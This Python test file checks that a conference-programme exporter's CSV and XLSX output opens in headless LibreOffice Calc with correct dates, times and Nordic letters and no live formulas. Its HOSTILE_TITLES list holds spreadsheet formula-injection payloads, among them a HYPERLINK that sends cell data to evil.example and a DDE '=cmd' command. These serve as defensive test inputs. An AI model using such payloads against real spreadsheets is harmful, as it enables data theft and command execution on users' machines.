"""Our spreadsheets as LibreOffice Calc reads them, run headless (``soffice --convert-to``).

The CSV is imported the way a user in each locale imports it (semicolon,
UTF-8, the locale's language, formulas evaluated) and saved as XLSX, which
openpyxl reads back: dates must be dates, times times, letters intact, one
row per session and no formula anywhere. Our XLSX is opened and saved as CSV
and as XLSX again, to see that Calc reads its types, header and filter.

``.ci/setup.d/50-libreoffice.sh`` installs LibreOffice and sets
``FOLKEMODE_SOFFICE``; without it these tests are skipped (failed under
``FOLKEMODE_REQUIRE_TOOLS=1``).
"""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import datetime, time
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from folkemode import Event, Session, Speaker
from folkemode.exporters.csv import COLUMNS, dump_csv, neutralise
from folkemode.exporters.text import label
from folkemode.exporters.xlsx import SESSION_COLUMNS, SPEAKER_COLUMNS, dump_xlsx
from tests.tools import require_tool

#: Windows language ids, as Calc's CSV filter takes them, of the locales we write for.
LANGUAGES = {"da": 1030, "nb": 1044, "nn": 2068, "en-US": 1033, "en-GB": 2057}
SEMICOLON, COMMA, QUOTE, UTF8 = 59, 44, 34, 76

HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "- punkt på dagsordenen",
    "'=1",
]


@pytest.fixture(scope="module")
def soffice(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A function converting a file with headless LibreOffice, in a profile of its own."""
    program = require_tool("FOLKEMODE_SOFFICE", "LibreOffice (soffice)")
    profile = tmp_path_factory.mktemp("libreoffice-profile").as_uri()

    def convert(source: Path, to: str, infilter: str | None = None) -> Path:
        out = source.parent / f"{source.stem}-{to.split(':')[0]}"
        out.mkdir(exist_ok=True)
        command = [str(program), f"-env:UserInstallation={profile}", "--headless"]
        if infilter is not None:
            command.append(f"--infilter={infilter}")
        command += ["--convert-to", to, "--outdir", str(out), str(source)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)
        written = sorted(out.iterdir())
        assert done.returncode == 0 and written, done.stdout + done.stderr
        return out

    return convert


def csv_filter(separator: int, language: int, *, trim_spaces: bool = False) -> str:
    """Calc's CSV import options: UTF-8 from line 1, special numbers detected, formulas run."""
    tokens = [separator, QUOTE, UTF8, 1, "", language, "false", "true", "false", "false"]
    tokens += [str(trim_spaces).lower(), -1, "true"]  # trim spaces, all sheets, evaluate formulas
    return "CSV:" + ",".join(map(str, tokens))


def with_hostile_sessions(event: Event) -> Event:
    """The example with sessions whose texts a spreadsheet would run, Nordic letters kept."""
    start = event.sessions[0].start
    hostile = [
        Session(
            title=title,
            start=start,
            room=title,
            speakers=[Speaker(name="Ærlige Åse Øster", role=title)],
            description=f"{title}\nÆbleskiver på Ærø",
        )
        for title in HOSTILE_TITLES
    ]
    return event.with_sessions(*hostile)


def calc_cells(folder: Path) -> tuple[list[list[Any]], list[str]]:
    """The values of the one sheet Calc wrote as XLSX, and which cells are formulas."""
    (path,) = folder.glob("*.xlsx")
    sheet = load_workbook(path).worksheets[0]
    rows = [list(row) for row in sheet.iter_rows()]
    formulas = [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    return [[cell.value for cell in row] for row in rows], formulas


def calc_rows(folder: Path) -> list[list[Any]]:
    """The values of the one sheet Calc wrote as XLSX, none of them a formula."""
    rows, formulas = calc_cells(folder)
    assert formulas == [], f"Calc made formulas of {formulas}"
    return rows


def expected_text(cell: str) -> str | None:
    """A CSV cell's text as Calc keeps it (the quote mark stays: a CSV has no way to hide it)."""
    return cell.replace("\r\n", "\n") or None


class TestCsvInCalc:
    @pytest.mark.parametrize("language", list(LANGUAGES))
    def test_excel_dialect(
        self, example: Event, soffice: Any, tmp_path: Path, language: str
    ) -> None:
        """In every locale: dates are dates, times times, æøå intact, a row each, no formula."""
        event = with_hostile_sessions(example)
        text = dump_csv(event, dialect="excel", locale=language.split("-")[0])
        source = tmp_path / "programme.csv"
        source.write_bytes(text.encode("utf-8"))
        rows = calc_rows(soffice(source, "xlsx", csv_filter(SEMICOLON, LANGUAGES[language])))
        written = list(
            csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";")
        )
        assert len(rows) == len(written) == len(event.sessions) + 1
        assert rows[0] == written[0]
        zone = event.zone
        for row, cells, session in zip(rows[1:], written[1:], event.sessions, strict=True):
            assert session.day is not None and session.start is not None
            assert row[0] == session.id
            assert row[1] == datetime.combine(session.day, time()), row
            assert row[2] == session.start.astimezone(zone).time(), row
            assert row[3] == (session.end and session.end.astimezone(zone).time()), row
            revision = COLUMNS.index("revision")
            assert row[revision] == session.revision, row  # a number, as a sheet reads it
            texts = [(i, cell) for i, cell in enumerate(cells) if i not in (1, 2, 3, revision)]
            assert [row[i] for i, _ in texts] == [expected_text(cell) for _, cell in texts]
        titles = [row[4] for row in rows[1:]]
        assert "Økonomien i kommunerne frem mod 2030" in titles
        assert "Sådan læser du et budget" in titles
        assert neutralise(HOSTILE_TITLES[0]) in titles

    def test_rfc4180_dialect(self, example: Event, soffice: Any, tmp_path: Path) -> None:
        """The default dialect, imported with a comma, gives dates and times too."""
        source = tmp_path / "programme.csv"
        source.write_text(dump_csv(example), encoding="utf-8", newline="")
        rows = calc_rows(soffice(source, "xlsx", csv_filter(COMMA, LANGUAGES["da"])))
        assert len(rows) == len(example.sessions) + 1
        assert all(isinstance(row[1], datetime) and isinstance(row[2], time) for row in rows[1:])

    @pytest.mark.parametrize("trim_spaces", [False, True])
    def test_this_import_runs_formulas(
        self, soffice: Any, tmp_path: Path, trim_spaces: bool
    ) -> None:
        """The import the tests use runs a cell left as it is (so no formula means safe)."""
        source = tmp_path / "raw.csv"
        source.write_text("=1+1\r\n =2+2\r\n", encoding="utf-8-sig", newline="")
        infilter = csv_filter(SEMICOLON, LANGUAGES["da"], trim_spaces=trim_spaces)
        _, formulas = calc_cells(soffice(source, "xlsx", infilter))
        assert formulas == (["A1", "A2"] if trim_spaces else ["A1"])

    @pytest.mark.parametrize("trim_spaces", [False, True])
    def test_neutralised_cells_never_run(
        self, soffice: Any, tmp_path: Path, trim_spaces: bool
    ) -> None:
        """Neutralised cells stay text, also where Calc trims the spaces before an "="."""
        cells = [*HOSTILE_TITLES, " =1+1", "\t=1+1", "  @SUM(A1:A2)", " Frokost", "Frokost"]
        source = tmp_path / "cells.csv"
        with source.open("w", encoding="utf-8-sig", newline="") as handle:
            writer = csv.writer(handle, delimiter=";", lineterminator="\r\n")
            writer.writerows([neutralise(cell)] for cell in cells)
        infilter = csv_filter(SEMICOLON, LANGUAGES["da"], trim_spaces=trim_spaces)
        rows = calc_rows(soffice(source, "xlsx", infilter))
        read = [row[0] for row in rows]
        assert read[-1] == "Frokost"
        assert all(isinstance(value, str) for value in read)


class TestXlsxInCalc:
    def test_calc_reads_the_workbook(self, example: Event, soffice: Any, tmp_path: Path) -> None:
        """Calc opens both sheets with their values, types, filters and widths.

        (Headless Calc has no window to keep the frozen header in, so the file it
        saves has none; tests/test_xlsx.py checks that ours has it.)
        """
        event = with_hostile_sessions(example)
        source = tmp_path / "programme.xlsx"
        source.write_bytes(dump_xlsx(event))

        book = load_workbook(next(soffice(source, "xlsx").glob("*.xlsx")))
        assert book.sheetnames == ["Program", "Oplægsholdere"]
        programme, speakers = book.worksheets
        assert programme.auto_filter.ref == f"A1:N{len(event.sessions) + 1}"
        ours = load_workbook(source).worksheets[0]
        assert [programme.column_dimensions[c].width for c in "ABCDE"] == [
            ours.column_dimensions[c].width for c in "ABCDE"
        ]
        header, *rows = list(programme.iter_rows())
        assert [cell.value for cell in header] == [label("da", c) for c in SESSION_COLUMNS]
        assert len(rows) == len(event.sessions)
        zone = event.zone
        for row, session in zip(rows, event.sessions, strict=True):
            assert session.day is not None and session.start is not None
            assert row[0].data_type == row[4].data_type == "s"
            assert row[1].is_date and row[2].is_date
            assert row[1].value == datetime.combine(session.day, time())
            assert row[2].value == session.start.astimezone(zone).time()
            if session.end is not None:
                assert row[3].is_date and row[3].value == session.end.astimezone(zone).time()
            assert row[4].value == session.title  # no quote mark: a text cell is text
        cells = [cell for row in (*programme.iter_rows(), *speakers.iter_rows()) for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []

    def test_calc_shows_the_cells(self, example: Event, soffice: Any, tmp_path: Path) -> None:
        """As Calc shows them (saved as CSV, one file a sheet): ISO dates, 24-hour times, æøå."""
        source = tmp_path / "programme.xlsx"
        source.write_bytes(dump_xlsx(example))
        options = f"{SEMICOLON},{QUOTE},{UTF8},1,,{LANGUAGES['da']},false,true,true,false,false,-1"
        folder = soffice(source, f"csv:Text - txt - csv (StarCalc):{options}")
        shown = {
            path.stem.removeprefix("programme-"): list(
                csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""), delimiter=";")
            )
            for path in folder.glob("*.csv")
        }
        assert set(shown) == {"Program", "Oplægsholdere"}
        programme, speakers = shown["Program"], shown["Oplægsholdere"]
        assert programme[0] == [label("da", c) for c in SESSION_COLUMNS]
        assert programme[3][:6] == [
            "20251113-oekonomien-i-kommunerne-frem-mod-2030",
            "2025-11-13",
            "10:30",
            "11:45",
            "Økonomien i kommunerne frem mod 2030",
            "Oplæg",
        ]
        assert speakers[0] == [label("da", c) for c in SPEAKER_COLUMNS]
        assert len(speakers) == 1 + sum(len(s.speakers) for s in example.sessions)
